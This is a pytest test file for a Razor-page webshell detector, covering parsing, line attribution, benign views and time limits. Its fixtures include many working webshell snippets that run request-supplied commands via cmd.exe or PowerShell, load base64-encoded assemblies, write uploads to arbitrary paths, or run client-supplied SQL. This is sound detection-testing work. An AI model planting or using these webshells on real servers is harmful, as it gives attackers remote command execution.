"""Razor pages (`.cshtml`, `.vbhtml`): ASP.NET Web Pages serve them by name, MVC and ASP.NET Core
render them, and their `@` code runs on the server as a WebForms page's does
(docs/detection/webshell-code.md, "Razor pages"). Their code is read at its own lines; markup,
comments, addresses and the views of real applications are not code."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from code_support import assert_benign, assert_found, prefilter_reads, run
from exhunt.cli import main
from exhunt.codeanalysis import analyze_code
from exhunt.codeanalysis import razor as razor_module
from exhunt.codeanalysis.extract import UnitKind
from exhunt.codeanalysis.razor import MAX_DEPTH, razor, read_razor
from exhunt.codeanalysis.syntax import parse

SHELLS = [
    (
        "web-pages-cmd.cshtml",
        "@using System.Diagnostics\n"
        "@{\n"
        '    var output = "";\n'
        "    if (IsPost) {\n"
        '        var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);\n'
        "        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
        '        <p>Running @Request.Form["c"]</p>\n'
        "        output = Process.Start(psi).StandardOutput.ReadToEnd();\n"
        "    }\n"
        "}\n"
        '<form method="post"><input name="c" /></form>\n<pre>@output</pre>\n',
        "EXH-WS-CODE-PROCESS",
        ["form field 'c'", "runs it as a command"],
        5,
    ),
    (
        "core-page.cshtml",
        '@page\n@{ var c = Request.Query["cmd"]; }\n<p>@System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id</p>\n',
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'cmd'", "Process.Start"],
        3,
    ),
    (
        "explicit-expression.cshtml",
        '<pre>@(System.Diagnostics.Process.Start("powershell.exe", Request["p"]).Id)</pre>\n',
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'p'"],
        1,
    ),
    (
        "functions-loader.cshtml",
        "@functions {\n"
        "    void Run(string b64) {\n"
        "        var asm = System.Reflection.Assembly.Load(Convert.FromBase64String(b64));\n"
        '        asm.CreateInstance("X").Equals(this);\n'
        "    }\n"
        "}\n"
        '@{ Run(Request["d"]); }\n',
        "EXH-WS-CODE-ASSEMBLY",
        ["request parameter 'd'", "base64-decodes it", "loads it as an assembly"],
        3,
    ),
    (
        "upload-anywhere.cshtml",
        "@if (Request.Files.Count > 0) {\n"
        "    var f = Request.Files[0];\n"
        "    <text>saving @f.FileName</text>\n"
        '    f.SaveAs(Server.MapPath("~/") + Request["path"]);\n'
        "} else {\n"
        '    <form method="post" enctype="multipart/form-data"><input type="file" name="f" /></form>\n'
        "}\n",
        "EXH-WS-CODE-FILE-WRITE",
        ["request parameter 'path'", "uploaded file"],
        4,
    ),
    (
        "sql-console.cshtml",
        "@{\n"
        '    var con = new System.Data.SqlClient.SqlConnection(Request["cs"]);\n'
        "    con.Open();\n"
        '    var cmd = new System.Data.SqlClient.SqlCommand(Request["q"], con);\n'
        "}\n<p>@cmd.ExecuteScalar()</p>\n",
        "EXH-WS-CODE-SQL-QUERY",
        ["request parameter 'q'"],
        4,
    ),
    (
        "markup-lines-in-code.cshtml",
        "@{\n"
        '    var c = Request["c"];\n'
        "    @:Command: @c\n"
        '    <div class="out">@c, don\'t stop</div>\n'
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n'
        "}\n",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        5,
    ),
    (
        "switch-and-try.cshtml",
        '@switch (Request["m"]) {\n'
        '    case "x":\n'
        "        <b>run</b>\n"
        "        try {\n"
        '            System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);\n'
        "        } catch (Exception ex) { <i>@ex.Message</i> }\n"
        "        break;\n"
        "}\n",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        5,
    ),
    (
        "section-with-code.cshtml",
        "@section scripts {\n"
        "    <script>var a = { b: 1 };</script>\n"
        '    @{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n'
        "}\n",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        3,
    ),
    (
        "helper.cshtml",
        '@helper Run(string c) {\n    <pre>@System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id</pre>\n}\n'
        '@Run(Request["c"])\n',
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        2,
    ),
    (
        "tag-attribute-expressions.cshtml",
        '<input value="@Request["c"]" @if (IsPost) { <text>checked</text> } data-n="@(1 > 0)" />\n'
        '@{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n',
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        2,
    ),
    (
        "vb-code-block.vbhtml",
        "@Imports System.Diagnostics\n"
        "@Code\n"
        '    Dim c As String = Request("c")\n'
        '    Dim p As New ProcessStartInfo("cmd.exe", "/c " & c)\n'
        "    @<p>running @c</p>\n"
        "    Process.Start(p)\n"
        "End Code\n",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        4,
    ),
    (
        "vb-if-block.vbhtml",
        "@If IsPost Then\n"
        "    @<pre>posted</pre>\n"
        '    Process.Start("cmd.exe", "/c " & Request.Form("x"))\n'
        "End If\n"
        '<p>@(Request("y"))</p>\n',
        "EXH-WS-CODE-PROCESS",
        ["form field 'x'"],
        3,
    ),
    (
        # `@model` is a directive, `@Model.Name` an expression: the line goes on after it.
        "model-expression.cshtml",
        "@model System.String\n"
        '<p>@Model.Length</p><p>@System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id</p>\n',
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'c'"],
        2,
    ),
    (
        # A comment's closing `*@` is not an address's letter: the `@` right after it starts code.
        "comment-then-code.cshtml",
        '<p>status</p>@* keep *@@{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n',
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'"],
        1,
    ),
    (
        # VB's directive is `@ModelType`; `@Model.Name` is an expression there too.
        "model-expression.vbhtml",
        "@ModelType System.String\n"
        '<p>@Model.Length</p><p>@System.Diagnostics.Process.Start("cmd.exe", Request.QueryString("c")).Id</p>\n',
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'c'"],
        2,
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words", "line"), SHELLS, ids=[s[0] for s in SHELLS])
def test_razor_shells_are_read_at_their_lines(name: str, code: str, rule_id: str, words: list[str], line: int) -> None:
    report = assert_found(name, code, rule_id, words)
    assert line in {c.line for c in report.capabilities if c.rule_id == rule_id}
    assert report.problems == []


HANDLERS = [
    (
        "handler-parameter.cshtml",
        "@page\n@functions {\n    public void OnGet(string cmd) {\n"
        '        System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd);\n    }\n}\n',
        "EXH-WS-CODE-PROCESS",
        4,
    ),
    (
        "named-async-handler.cshtml",
        "@page\n@functions {\n    public async System.Threading.Tasks.Task OnPostRunAsync(string path, string text) {\n"
        "        await System.IO.File.WriteAllTextAsync(path, text);\n    }\n}\n",
        "EXH-WS-CODE-FILE-WRITE",
        4,
    ),
    (
        "Run.cshtml.cs",
        "using Microsoft.AspNetCore.Mvc.RazorPages;\n"
        "public class RunModel : PageModel {\n"
        "    public void OnPost(string cmd) {\n"
        '        System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd);\n    }\n}\n',
        "EXH-WS-CODE-PROCESS",
        4,
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "line"), HANDLERS, ids=[h[0] for h in HANDLERS])
def test_a_razor_pages_handler_parameters_are_the_clients(name: str, code: str, rule_id: str, line: int) -> None:
    # Model binding fills an `OnGet`/`OnPost...` handler's parameters from the request, as it
    # fills a controller action's.
    report = assert_found(name, code, rule_id, ["handler parameter", "in a Razor page's handler"])
    assert line in {c.line for c in report.capabilities if c.rule_id == rule_id}


CORE_SOURCES = [
    ('Request.RouteValues["c"]', "route value 'c'"),
    ('(await Request.ReadFormAsync())["c"]', "form field"),
    ('(await Request.ReadFromJsonAsync<System.Collections.Generic.Dictionary<string, string>>())["c"]', "request body"),
    ('Accessor.HttpContext.Request.Query["c"]', "query parameter 'c'"),
    ('Context.Request.Headers["X-C"]', "request header 'X-C'"),
]


@pytest.mark.parametrize(("expression", "source"), CORE_SOURCES, ids=[c[1] for c in CORE_SOURCES])
def test_aspnet_core_request_members_are_the_clients(expression: str, source: str) -> None:
    # ASP.NET Core's HttpRequest: route values, the form and JSON body read on demand, and the
    # request reached through an injected IHttpContextAccessor.
    page = (
        "@inject Microsoft.AspNetCore.Http.IHttpContextAccessor Accessor\n"
        f'@{{ var c = {expression}; System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }}\n'
    )
    assert_found("core.cshtml", page, "EXH-WS-CODE-PROCESS", [source])


def test_bound_properties_are_the_clients() -> None:
    # Model binding sets a `[BindProperty]` (or every property of a `[BindProperties]` class)
    # from the request before the handler runs.
    page = (
        "@page\n@functions {\n"
        "    [BindProperty(SupportsGet = true)] public string Cmd { get; set; }\n"
        "    public string Note { get; set; }\n"
        '    public void OnGet() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd); }\n'
        "}\n"
    )
    report = assert_found("bound.cshtml", page, "EXH-WS-CODE-PROCESS", ["bound property 'Cmd'"])
    assert {c.line for c in report.capabilities if c.rule_id == "EXH-WS-CODE-PROCESS"} == {5}
    model = (
        "[BindProperties]\npublic class RunModel : PageModel {\n"
        "    public string Cmd { get; set; }\n"
        '    public void OnPost() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd); }\n}\n'
    )
    assert_found("Run.cshtml.cs", model, "EXH-WS-CODE-PROCESS", ["bound property 'Cmd'"])
    unbound = model.replace("[BindProperties]\n", "")
    assert "bound property" not in " ".join(c.chain for c in run("Run.cshtml.cs", unbound).capabilities)


def test_other_methods_and_page_models_helpers_take_no_client_values() -> None:
    page = (
        "@page\n@functions {\n"
        '    public void Run(string cmd) { System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd); }\n'
        "    public static void OnGetHelper(string cmd) { System.Diagnostics.Process.Start(cmd); }\n"
        "    public string Message { get; set; }\n"
        '    public void OnGet(int id) { Message = "Item " + id; }\n'
        "}\n<p>@Message</p>\n"
    )
    assert "handler parameter" not in " ".join(c.chain for c in run("p.cshtml", page).capabilities)
    model = (
        "public class IndexModel : PageModel {\n"
        "  public void OnPostUpload(Microsoft.AspNetCore.Http.IFormFile file) {\n"
        "    var name = System.IO.Path.GetFileName(file.FileName);\n"
        '    using var s = System.IO.File.Create(System.IO.Path.Combine("wwwroot/uploads", name)); file.CopyTo(s);\n'
        "  }\n}\n"
    )
    assert_benign("Index.cshtml.cs", model)
    # A WebForms page's method of the same name is no handler: only Razor pages and page models.
    webforms = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'public void OnGetData(string cmd) { System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd); }\n</script>\n'
    )
    assert "handler parameter" not in " ".join(c.chain for c in run("w.aspx", webforms).capabilities)


BENIGN = [
    (
        "mvc-view.cshtml",
        "@model IEnumerable<Shop.Models.Product>\n"
        "@{\n"
        '    ViewBag.Title = "Products";\n'
        '    var returnUrl = Request.QueryString["returnUrl"];\n'
        "}\n"
        "<h2>@ViewBag.Title</h2>\n"
        '@using (Html.BeginForm("Search", "Products", FormMethod.Get)) {\n'
        '    @Html.TextBox("q", Request["q"], new { @class = "search" })\n'
        '    <input type="submit" value="Search" />\n'
        "}\n"
        "<table>\n"
        "@foreach (var item in Model) {\n"
        '    <tr><td>@item.Name</td><td>@Html.ActionLink("Edit", "Edit", new { id = item.Id })</td></tr>\n'
        "}\n"
        '</table>\n<a href="@returnUrl">back</a>\n',
    ),
    (
        "upload-to-own-folder.cshtml",
        "@if (IsPost) {\n"
        "    var file = Request.Files[0];\n"
        "    var name = Path.GetFileName(file.FileName);\n"
        '    file.SaveAs(Server.MapPath("~/App_Data/Uploads/" + name));\n'
        "    <p>Saved @name. Questions: support@example.com</p>\n"
        "}\n",
    ),
    (
        "commented-out.cshtml",
        '@* @{ System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); } *@\n'
        "<p>Write @@Request to show the at sign; mail admin@example.com</p>\n"
        '@{ var n = Request["n"]; @* Process.Start(n); *@ }\n',
    ),
    (
        "fixed-tool.cshtml",
        '@{ var p = System.Diagnostics.Process.Start("ping.exe", "-n 1 127.0.0.1"); }\n<p>@Request["q"]</p>\n',
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_views_markup_and_comments_are_not_shells(name: str, code: str) -> None:
    assert_benign(name, code)


def test_statements_members_and_imports_keep_their_lines() -> None:
    text = (
        "@using System.IO\n"  # 1
        "<h1>t</h1>\n"  # 2
        "@functions {\n"  # 3
        "  int Twice(int x) { return 2 * x; }\n"  # 4
        "}\n"  # 5
        '@{ var a = Request["a"]; }\n'  # 6
        "<p>@a</p>\n"  # 7
    )
    extracted, unread = razor(text, ".cshtml")
    assert not unread
    units = {u.kind: u for u in extracted.units}
    statements = units[UnitKind.STATEMENTS].text.split("\n")
    assert 'var a = Request["a"];' in statements[5] and "__out(a);" in statements[6]
    members = units[UnitKind.MEMBERS]
    assert "int Twice" in members.text.split("\n")[members.first_line - 1 + 1]
    assert [(d.name, d.attrs["namespace"], d.line) for d in extracted.directives] == [("Import", "System.IO", 1)]


# Forms of real views the grammar must get whole: a command in each is found by the parse, not by
# the token reader a broken reading falls back to.
WHOLE_VIEWS = [
    (
        "delegate-in-expression",
        "@if (Model.Locked) {\n"
        "    @Helpers.Alert(isAlertRole: true, htmlContent:\n"
        "        @<text>See <a href='https://example.org/terms'>the terms</a> or @Url.Home().</text>)\n"
        "\n"
        '    @System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Query["c"]).Id\n'
        "}\n",
        5,
    ),
    (
        "paragraph-left-open",
        "@if (IsPost) {\n"
        '    <div class="form-group">\n'
        "        <p>Describe the problem.\n"
        "        <p>\n"
        "    </div>\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);\n'
        "}\n",
        6,
    ),
    (
        "markup-after-case",
        "@switch (Model.Kind) {\n"
        "    case Kind.Git:\n"
        '        <div class="icon"></div>\n'
        "        break;\n"
        "    default:\n"
        '        <i>@System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id</i>\n'
        "        break;\n"
        "}\n",
        6,
    ),
    (
        "awaited-expression",
        '@await Component.InvokeAsync("Menu")\n'
        "@await System.Threading.Tasks.Task.Run(() =>"
        ' System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id)\n',
        2,
    ),
    (
        "initializer-items",
        "@{\n"
        "    var labels = new string[]\n"
        "    {\n"
        '        @T("Today"),\n'
        '        @<text><a href="@Url.Home()">home</a></text>\n'
        "    };\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);\n'
        "}\n",
        7,
    ),
]


@pytest.mark.parametrize(("name", "code", "line"), WHOLE_VIEWS, ids=[v[0] for v in WHOLE_VIEWS])
def test_view_forms_read_whole_by_the_grammar(name: str, code: str, line: int) -> None:
    extracted, unread = razor(code, ".cshtml")
    assert not unread
    for unit in extracted.units:
        parsed = parse(unit)
        assert not isinstance(parsed, str) and not parsed.tree.root_node.has_error, unit.text
    report = assert_found(f"{name}.cshtml", code, "EXH-WS-CODE-PROCESS", ["runs it as a command"])
    assert report.readers == {"tree-sitter:csharp"}, report.readers
    assert [c.line for c in report.capabilities if c.rule_id == "EXH-WS-CODE-PROCESS"] == [line]


def test_reading_past_the_deadline_stops_and_says_where() -> None:
    # Telling code from markup is part of a file's time: past the deadline the reading stops at
    # the next look at the clock (every 64 transitions), and the code after it is not read.
    view = "".join(f"<p>@Model.Item{i}</p>\n" for i in range(200))
    view += '@System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"])\n'
    whole = read_razor(view, ".cshtml")
    assert whole.stopped_line is None
    assert "Process.Start" in whole.extracted.units[0].text
    late = read_razor(view, ".cshtml", deadline=time.monotonic() - 1)
    assert late.stopped_line == 64
    assert "Process.Start" not in late.extracted.units[0].text
    assert late.extracted.units[0].text.count("\n") == view.count("\n")  # lines kept
    report = run("late.cshtml", view)
    assert [p.kind for p in report.problems] == []
    report = analyze_code(view.encode(), "late.cshtml", deadline_s=0.0)
    problems = [p for p in report.problems if "Razor markup" in p.message]
    assert [(p.kind, p.line) for p in problems] == [("timed-out", 64)], report.problems


def test_thousands_of_unclosed_delegates_in_an_expression_are_read_in_time() -> None:
    # Each `@<b>` is looked into for its end tag for a few dozen tags at most, not to the window's
    # end: twenty thousand of them (13 s to separate before, past the deadline, the command
    # after them unread) leave the file's time to the analysis.
    page = (
        "@if (IsPost) {\n    @Html.Raw(Format(" + "@<b>" * 20000 + "))\n"
        '    @System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id\n}\n'
    )
    report = run("many.cshtml", page)
    assert [p.kind for p in report.problems if p.kind == "timed-out"] == [], report.problems
    assert [c.line for c in report.capabilities if c.rule_id == "EXH-WS-CODE-PROCESS"] == [3]


def test_unclosed_delegates_nested_in_calls_are_each_looked_into_once(monkeypatch: pytest.MonkeyPatch) -> None:
    # A fuzzed view: thirty thousand unclosed `@<b>` after `@T("Approve").` in a helper's call,
    # two blocks deep. Each was read for 64 tags (3 s on this machine, past the deadline on a
    # loaded one); one whose first tag never closes within the window is now passed over at once,
    # and one left open deeper than 16 tags stops there.
    count = 30000
    page = (
        "@if (Model.Open) {\n    <ul>\n        @if (Model.Pending) {\n            <li>\n"
        '                @Html.Link(@T("Approve").' + "@<b>" * count + ")\n            </li>\n        }\n    </ul>\n"
        '    @System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id\n}\n'
    )
    real = razor_module._TAG
    calls = [0]

    class Counting:
        def match(self, *args: Any) -> Any:
            calls[0] += 1
            return real.match(*args)

    monkeypatch.setattr(razor_module, "_TAG", Counting())
    report = run("fuzzed.cshtml", page)
    assert [(c.rule_id, c.line) for c in report.capabilities] == [("EXH-WS-CODE-PROCESS", 9)]
    assert calls[0] < 4 * count, calls[0]


def test_a_delegate_closing_deep_inside_is_still_passed_over() -> None:
    # Real markup nests a few levels: a delegate whose end tag comes after five open tags, with a
    # quote in its text, is skipped whole (its apostrophe is no character literal).
    page = (
        "@Html.Grid(Model, format: @<div><ul><li><a><span>it's</span></a></li></ul></div>)\n"
        '@System.Diagnostics.Process.Start("cmd.exe", Request.Query["c"]).Id\n'
    )
    report = run("grid.cshtml", page)
    assert [(c.rule_id, c.line) for c in report.capabilities] == [("EXH-WS-CODE-PROCESS", 2)]


def test_nesting_past_the_limit_is_a_problem_not_a_failure() -> None:
    deep = (
        "@{ <div> " * (MAX_DEPTH + 10)
        + '@{ System.Diagnostics.Process.Start(Request["c"]); }'
        + " </div> }" * (MAX_DEPTH + 10)
    )
    report = run("deep.cshtml", deep)
    assert [p.kind for p in report.problems] == ["limit"]
    assert "nested more than" in report.problems[0].message


@pytest.mark.parametrize(
    ("nested", "name"),
    [
        ("@{ @if (x) { " * 3000, "x.cshtml"),
        ("@{ @section s { " * 3000, "x.cshtml"),
        ("@{ @helper h() { " * 3000, "x.cshtml"),
    ],
)
def test_code_nested_in_code_past_the_limit_is_a_problem_not_a_failure(nested: str, name: str) -> None:
    # Statements inside code blocks inside statements, with no markup between: bounded as markup
    # in code is, never a recursion that fails the file.
    report = run(name, nested)
    assert "limit" in {p.kind for p in report.problems}


@pytest.mark.parametrize(
    "piece",
    ["@{", "@(", "@a(", "<div @if(x){", "@foreach(", '@{ "', "@*", "@section s {", "@Code\n", "@If x Then\n", "@<b>"],
)
def test_unclosed_constructs_cost_bounded_time(piece: str) -> None:
    # A megabyte of one construct, never closed: read in about linear time, and no exception.
    text = piece * (1_000_000 // len(piece))
    for name in ("x.cshtml", "x.vbhtml"):
        start = time.monotonic()
        run(name, text)
        assert time.monotonic() - start < 60, (piece, name)


def test_the_prefilter_reads_razor_pages_only_when_they_name_request_data() -> None:
    assert prefilter_reads("a.cshtml", '@{ var c = Request["c"]; }')
    assert not prefilter_reads("b.cshtml", "@model X\n<h1>@Model.Title</h1>")


def test_a_razor_shell_in_the_web_root_makes_the_host_compromised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "case" / "WEB01" / "C" / "inetpub" / "wwwroot" / "status.cshtml"
    page.parent.mkdir(parents=True)
    page.write_text(SHELLS[0][1], encoding="utf-8")
    before = page.read_bytes()
    code = main(["hunt", str(tmp_path / "case"), "--json", "-"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1
    (host,) = doc["hosts"]
    assert host["verdict"] == "compromised"
    found = [f for f in host["findings"] if f["rule_id"] == "EXH-WS-CODE-PROCESS"]
    assert found and all(f["evidence"]["path"].endswith("status.cshtml") for f in found)
    assert {f["evidence"]["line"] for f in found} & {5, 8}
    assert page.read_bytes() == before
